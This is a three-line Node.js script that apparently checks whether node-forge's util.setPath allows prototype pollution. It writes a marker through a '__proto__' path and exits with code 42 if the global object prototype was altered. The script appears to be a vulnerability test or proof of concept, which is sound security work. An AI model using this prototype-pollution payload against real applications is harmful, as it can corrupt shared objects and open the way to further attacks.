const { util } = require('node-forge');
if (util.setPath) util.setPath({}, ['__proto__', 'mark'], 7);
process.exit({}.mark === 7 ? 42 : 0);
